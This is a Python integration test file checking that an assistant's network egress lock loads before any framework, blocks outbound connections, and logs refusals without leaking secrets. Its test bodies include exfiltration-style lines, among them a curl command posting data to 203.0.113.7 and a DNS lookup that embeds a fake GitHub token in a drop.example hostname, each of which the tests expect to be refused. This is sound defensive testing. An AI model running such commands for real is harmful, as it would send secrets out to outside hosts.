"""Every process puts the lock on before it loads a framework, and what the lock refuses is in the audit log."""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from assistant.audit.events import Tag
from assistant.audit.reading.read import LogReader, Search, StoredEvent
from tests.integration.conftest import Database

pytestmark = pytest.mark.integration

ROOT = Path(__file__).parents[2]

# What speaks to a network, or brings something along that does. `socket` itself has to be there: the lock watches it.
FRAMEWORKS = {
    *("aiohttp", "alembic", "asyncio", "celery", "chainlit", "fastapi", "grpc", "httpx", "kombu", "litellm", "psycopg"),
    *("presidio_analyzer", "pydantic", "pydantic_settings", "re2", "redis", "requests", "spacy", "sqlalchemy"),
    *("sqlmodel", "ssl", "starlette", "typer", "urllib3", "uvicorn", "xllamacpp", "yaml"),
}

# Runs a module as the system would, and writes down what was loaded when the first hook after ours went on.
WATCHED = """
import json, runpy, sys
seen = []
def watch(event, arguments):
    if event == "sys.addaudithook" and not seen:
        seen.append([*sys.modules])
sys.addaudithook(watch)
module, *sys.argv[1:] = sys.argv[1:]
try:
    runpy.run_module(module, run_name="__main__", alter_sys=True)
except BaseException:
    pass
from connectors.network import installed
print(json.dumps({"loaded": seen[0] if seen else None, "is_on": installed() is not None}), flush=True)
"""


@pytest.mark.parametrize(
    ("module", "arguments"),
    [
        ("assistant", ("--help",)),
        ("assistant", ("audit", "seal", "--help")),
        ("workers", ("worker", "--help")),
        ("workers", ("scheduler", "--help")),
        ("assistant.embedded", ("999",)),
        ("connectors.model_hosts.bundled_server", ("0",)),
    ],
)
def test_the_lock_is_on_before_any_framework(module: str, arguments: tuple[str, ...]) -> None:
    code = WATCHED
    if module.endswith("bundled_server"):  # it ends at once where its owner is another process
        code = "import os\nos._exit = lambda status: sys.exit(status)\n" + code
    done = subprocess.run(
        [sys.executable, "-c", code, module, *arguments],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    told = json.loads(done.stdout.splitlines()[-1])
    assert told["is_on"], done.stderr
    assert told["loaded"] is not None
    assert {name.partition(".")[0] for name in told["loaded"]} & FRAMEWORKS == set()


PROCESS = """
import os, socket, subprocess, sys
from assistant.egress import allow_site, lock_process
lock_process()
from assistant.audit.writing.refusals import report_refusals
from assistant.settings import read_settings
from connectors.network import installed
from connectors.refusals import EgressRefusedError

settings = read_settings()
allow_site(settings)
report_refusals(settings, "web")

def refused(call, *arguments):
    try:
        call(*arguments)
    except EgressRefusedError:
        return
    raise AssertionError(arguments)

BODY
assert installed().close(timeout_seconds=30)
"""


def run(database: Database, tmp_path: Path, body: str, **settings: str) -> subprocess.CompletedProcess[str]:
    environment = {
        **{name: value for name, value in os.environ.items() if not name.startswith("CLOISTER_")},
        "CLOISTER_DATA_DIR": str(tmp_path),
        "CLOISTER_AUDIT_DATABASE_URL": database.audit_writer_url.get_secret_value(),
        **settings,
    }
    return subprocess.run(
        [sys.executable, "-c", PROCESS.replace("BODY", body)],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )


def refusals(database: Database) -> list[StoredEvent]:
    async def read() -> list[StoredEvent]:
        async with LogReader(database.audit_reader_url) as log:
            return [*await log.read_newest(100, Search(types=frozenset({Tag.EGRESS_REFUSED})))]

    return asyncio.run(read())


def data_of(event: StoredEvent) -> dict[str, Any]:
    body: dict[str, Any] = json.loads(event.body)
    data: dict[str, Any] = body["data"]
    return data | {"host": event.host}


def test_what_is_refused_becomes_an_event_without_a_secret(database: Database, tmp_path: Path) -> None:
    body = """
refused(socket.create_connection, ("203.0.113.7", 443))
refused(socket.getaddrinfo, "ghp_aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5.drop.example", 80)
refused(subprocess.run, ["/usr/bin/curl", "-d", "planted-word", "http://203.0.113.7/"])
"""
    done = run(database, tmp_path, body)
    assert done.returncode == 0, done.stderr
    found = [data_of(event) for event in refusals(database)]
    assert [(each["action"], each["port"]) for each in found] == [("connect", 443), ("look_up", 0), ("start", 0)]
    assert [each["host"] for each in found if each["action"] != "look_up"] == ["203.0.113.7", "/usr/bin/curl"]
    assert {(each["process"], each["caller"]) for each in found} == {("web", "__main__")}
    told = json.dumps(found) + done.stderr
    assert "GITHUB_TOKEN" in told
    assert "ghp_aB3dE5fG" not in told
    assert "planted-word" not in told
    assert "refused to connect 203.0.113.7, port 443; asked by __main__" in done.stderr


def test_a_forked_child_tells_of_its_own(database: Database, tmp_path: Path) -> None:
    """As the children of Celery's pool do."""
    body = """
child = os.fork()
if child == 0:
    refused(socket.create_connection, ("203.0.113.8", 443))
    installed().close(timeout_seconds=30)
    os._exit(0)
assert os.waitpid(child, 0)[1] == 0
"""
    done = run(database, tmp_path, body)
    assert done.returncode == 0, done.stderr
    assert [data_of(event)["host"] for event in refusals(database)] == ["203.0.113.8"]


def test_a_database_that_is_away_is_waited_for(database: Database, tmp_path: Path) -> None:
    body = """
from assistant.audit.writing import refusals
from assistant.errors import AuditUnavailableError
real, tries = refusals._append, []

async def away_at_first(url, event):
    tries.append(1)
    if len(tries) < 3:
        raise AuditUnavailableError("away")
    await real(url, event)

refusals._append, refusals._PAUSE_SECONDS = away_at_first, 0.01
refused(socket.create_connection, ("203.0.113.9", 443))
"""
    done = run(database, tmp_path, body)
    assert done.returncode == 0, done.stderr
    assert [data_of(event)["host"] for event in refusals(database)] == ["203.0.113.9"]


def test_what_is_tried_again_and_again_does_not_fill_the_log(database: Database, tmp_path: Path) -> None:
    body = """
for _ in range(500):
    refused(socket.create_connection, ("203.0.113.9", 443))
refused(socket.create_connection, ("203.0.113.10", 443))
assert installed().refused == 501
"""
    done = run(database, tmp_path, body)
    assert done.returncode == 0, done.stderr
    assert [data_of(event)["host"] for event in refusals(database)] == ["203.0.113.9", "203.0.113.10"]
    assert done.stderr.count("refused to connect") == 2


LIBPQ = """
import asyncio
import psycopg
from assistant import database
from connectors.network import installed
from pydantic import SecretStr
from sqlalchemy import text
from sqlalchemy.exc import OperationalError

OUTSIDE = SecretStr("postgresql://app:made-up@203.0.113.7:5432/cloister?connect_timeout=2")

async def ways():
    try:
        await database.connect(OUTSIDE)
    except psycopg.OperationalError as error:
        assert "allow-list" in str(error), error
    try:
        async with database.create_engine(OUTSIDE).connect() as connection:
            await connection.execute(text("SELECT 1"))
    except OperationalError as error:
        assert "allow-list" in str(error), error

asyncio.run(ways())
try:
    database.create_command_engine(OUTSIDE).connect()
except OperationalError as error:
    assert "allow-list" in str(error), error
assert installed().refused == 3, installed().refused
"""


def test_libpq_is_handed_only_what_was_judged(database: Database, tmp_path: Path) -> None:
    done = run(database, tmp_path, LIBPQ)
    assert done.returncode == 0, done.stderr
    assert {data_of(event)["host"] for event in refusals(database)} == {"203.0.113.7"}
